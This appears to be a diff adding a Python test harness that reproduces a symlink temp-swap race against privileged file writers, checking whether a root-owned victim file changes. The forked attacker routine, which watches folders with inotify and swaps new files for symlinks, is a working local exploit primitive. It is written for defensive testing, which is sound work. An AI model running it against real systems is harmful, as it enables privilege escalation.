@@ -1,0 +1,151 @@
+"""The temp-swap race: an attacker who owns the folder a privileged writer writes into replaces every new
+file (the writer's temporary file) with a symbolic link to a victim file, between the writer's create and its
+chmod/chown/rename. With descriptor-based writes (fchmod/fchown on the open descriptor, O_EXCL|O_NOFOLLOW
+create) the victim never changes; a path-based chmod/chown follows the planted link.
+
+The attacker is a forked child that drops to the attacker's uid/gid and watches the folders with inotify
+(ctypes on libc, nothing to install). The parent runs the privileged command over and over and checks the
+victim's mode, owner, inode and content after each try.
+"""
+
+import ctypes
+import ctypes.util
+import hashlib
+import os
+import signal
+import struct
+import subprocess
+import sys
+import time
+
+IN_CREATE = 0x00000100
+IN_MOVED_TO = 0x00000080
+IN_NONBLOCK = 0o4000
+_EVENT = struct.Struct("iIII")
+
+_libc = ctypes.CDLL(ctypes.util.find_library("c") or "libc.so.6", use_errno=True)
+_libc.inotify_init1.argtypes = [ctypes.c_int]
+_libc.inotify_add_watch.argtypes = [ctypes.c_int, ctypes.c_char_p, ctypes.c_uint32]
+
+
+def _inotify(folders):
+    fd = _libc.inotify_init1(0)
+    if fd < 0:
+        raise OSError(ctypes.get_errno(), "inotify_init1")
+    watches = {}
+    for folder in folders:
+        # Only creations: a temporary file is created; the final name appears by rename (IN_MOVED_TO) and is left alone.
+        wd = _libc.inotify_add_watch(fd, os.fsencode(folder), IN_CREATE)
+        if wd < 0:
+            raise OSError(ctypes.get_errno(), "inotify_add_watch " + folder)
+        watches[wd] = folder
+    return fd, watches
+
+
+def _attacker(folders, keep, victim, uid, gid, report_fd):
+    """Runs in the child: swap every new entry of the folders (except the names in keep) for a link to victim."""
+    os.setgroups([])
+    os.setgid(gid)
+    os.setuid(uid)
+    fd, watches = _inotify(folders)
+    os.write(report_fd, b"R")  # ready
+    swaps = 0
+    target = os.fsencode(victim)
+
+    def stop(*_):
+        os.write(report_fd, b"%d\n" % swaps)
+        os._exit(0)
+
+    signal.signal(signal.SIGTERM, stop)
+    while True:
+        data = os.read(fd, 65536)
+        offset = 0
+        while offset < len(data):
+            wd, mask, _cookie, length = _EVENT.unpack_from(data, offset)
+            name = data[offset + _EVENT.size: offset + _EVENT.size + length].rstrip(b"\0")
+            offset += _EVENT.size + length
+            if not name or name in keep:
+                continue
+            path = os.path.join(os.fsencode(watches[wd]), name)
+            try:
+                if os.readlink(path) == target:
+                    continue  # the attacker's own link (its creation is an IN_CREATE event too)
+            except OSError:
+                pass
+            try:
+                os.unlink(path)
+                os.symlink(target, path)
+                swaps += 1
+            except OSError:
+                pass
+
+
+def victim_state(path):
+    st = os.lstat(path)
+    with open(path, "rb") as f:
+        digest = hashlib.sha256(f.read()).hexdigest()
+    return (st.st_mode, st.st_uid, st.st_gid, st.st_ino, st.st_nlink, digest)
+
+
+def make_victim(path, content=b"root-only victim: must never change\n"):
+    if os.path.lexists(path):
+        os.unlink(path)
+    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
+    os.write(fd, content)
+    os.fchmod(fd, 0o600)
+    os.fchown(fd, 0, 0)
+    os.close(fd)
+    return victim_state(path)
+
+
+def race(command, reset, folders, keep, victim, uid, gid, tries, env=None, timeout=10, stdin=b"wso2carbon\n"):
+    """Runs command `tries` times with reset() before each; returns (tries, swaps, wins, failures, details)."""
+    expected = make_victim(victim)
+    r, w = os.pipe()
+    pid = os.fork()
+    if pid == 0:
+        os.close(r)
+        try:
+            _attacker(folders, {os.fsencode(k) for k in keep}, victim, uid, gid, w)
+        except BaseException as e:  # noqa: BLE001 - report and leave
+            sys.stderr.write("racer: attacker failed: %r\n" % (e,))
+        os._exit(1)
+    os.close(w)
+    if os.read(r, 1) != b"R":
+        os.waitpid(pid, 0)
+        raise RuntimeError("the attacker process did not start")
+
+    wins, failures, details = 0, 0, []
+    try:
+        for i in range(tries):
+            time.sleep(0.01)  # let the attacker finish a late swap before the folder is reset
+            reset()
+            try:
+                proc = subprocess.run(command, env=env, input=stdin, capture_output=True, timeout=timeout)
+                if proc.returncode != 0:
+                    failures += 1
+            except subprocess.TimeoutExpired:
+                failures += 1
+            state = victim_state(victim) if os.path.lexists(victim) else None
+            if state != expected:
+                wins += 1
+                if len(details) < 3:
+                    details.append("try %d: victim %s -> %s" % (i + 1, _show(expected), _show(state)))
+                expected = make_victim(victim)
+    finally:
+        os.kill(pid, signal.SIGTERM)
+        swaps = int((os.read(r, 64).strip() or b"0"))
+        os.close(r)
+        os.waitpid(pid, 0)
+    return tries, swaps, wins, failures, details
+
+
+def _show(state):
+    if state is None:
+        return "missing"
+    mode, uid, gid, ino, nlink, digest = state
+    return "mode %o uid %d gid %d ino %d nlink %d sha %s" % (mode & 0o7777, uid, gid, ino, nlink, digest[:8])
+
+
+if __name__ == "__main__":
+    sys.exit("racer.py is a module; tests/hostile/cases.py drives it")
